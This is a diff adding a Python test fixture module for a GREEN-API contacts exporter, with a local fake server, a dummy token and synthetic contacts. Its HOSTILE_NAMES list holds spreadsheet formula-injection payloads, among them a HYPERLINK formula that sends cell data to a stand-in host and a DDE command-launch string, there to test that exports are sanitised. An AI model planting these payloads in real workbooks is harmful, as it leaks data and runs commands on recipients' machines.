@@ -1,0 +1,114 @@
+"""The stand-in GREEN-API and the data tests feed it: a real HTTP server on
+127.0.0.1 (pytest-httpserver), the credentials it accepts, reference, hostile
+and synthetic contacts."""
+
+from __future__ import annotations
+
+import json
+import time
+from typing import Any
+
+from pytest_httpserver import HTTPServer
+from werkzeug import Request, Response
+
+from xl_contacts.client import GreenApiClient
+from xl_contacts.demo import REFERENCE_PAGE_CONTACTS
+from xl_contacts.names import ENV_API_TOKEN, ENV_API_URL, ENV_ID_INSTANCE
+from xl_contacts.settings import Settings, load_settings
+
+# Long and distinctive, so a leak anywhere is found by a plain substring search.
+TOKEN = "d75b3a66374942c5b3c019c698abc2067e151558acbd412345"
+ID_INSTANCE = "1101823456"
+
+REFERENCE_CONTACTS: list[dict[str, Any]] = [dict(c) for c in REFERENCE_PAGE_CONTACTS]
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "bell\x07and\x00nul\x1bescape",
+    "x" * 40_000,
+    "\x01\x02",  # nothing a workbook can hold: an empty cell
+]
+
+
+class FakeGreenApi:
+    """The stand-in GREEN-API: answers getContacts for one instance."""
+
+    def __init__(self, server: HTTPServer) -> None:
+        self.server = server
+        self.url = server.url_for("").rstrip("/")
+        self.path = f"/waInstance{ID_INSTANCE}/getContacts/{TOKEN}"
+
+    def answer(
+        self,
+        contacts: Any = None,
+        *,
+        status: int = 200,
+        body: str | None = None,
+        headers: dict[str, str] | None = None,
+        content_type: str = "application/json",
+        once: bool = False,
+    ) -> None:
+        """Register an answer; ``once`` answers are used up in registration order
+        before the permanent one."""
+        if body is None:
+            body = json.dumps(REFERENCE_CONTACTS if contacts is None else contacts)
+        expect = self.server.expect_oneshot_request if once else self.server.expect_request
+        expect(self.path, method="GET").respond_with_response(
+            Response(body, status=status, headers=headers, content_type=content_type)
+        )
+
+    def answer_state(self, state: str = "authorized", *, status: int = 200) -> None:
+        """Register the answer of getStateInstance."""
+        path = f"/waInstance{ID_INSTANCE}/getStateInstance/{TOKEN}"
+        self.server.expect_request(path, method="GET").respond_with_response(
+            Response(
+                json.dumps({"stateInstance": state}), status=status, content_type="application/json"
+            )
+        )
+
+    def answer_slowly(self, contacts: Any, delay: float) -> None:
+        """Answer every request after ``delay`` seconds."""
+
+        def handler(request: Request) -> Response:
+            time.sleep(delay)
+            return Response(json.dumps(contacts), content_type="application/json")
+
+        self.answer_with(handler)
+
+    def answer_with(self, handler: Any) -> None:
+        self.server.expect_request(self.path, method="GET").respond_with_handler(handler)
+
+    @property
+    def requests(self) -> list[Request]:
+        return [request for request, _ in self.server.log]
+
+    def settings(self) -> Settings:
+        return load_settings(self.url, ID_INSTANCE, TOKEN, env={})
+
+    def client(self, **options: Any) -> GreenApiClient:
+        options = {"timeout": (2.0, 5.0), **options}
+        return GreenApiClient(self.settings(), **options)
+
+    def env(self) -> dict[str, str]:
+        return {ENV_API_URL: self.url, ENV_ID_INSTANCE: ID_INSTANCE, ENV_API_TOKEN: TOKEN}
+
+
+def make_contacts(n: int, *, start: int = 0) -> list[dict[str, Any]]:
+    """``n`` generated contacts as GREEN-API would answer them: every fifth
+    number hidden, every tenth contact a group."""
+    return [
+        {
+            "chatId": str(10_000_000 + i),
+            "name": f"Name {i} Фамилия",
+            "contactName": f"Contact {i}",
+            "type": "group" if i % 10 == 0 else "user",
+            "phoneNumber": 0 if i % 5 == 0 else 79_000_000_000 + i,
+        }
+        for i in range(start, start + n)
+    ]
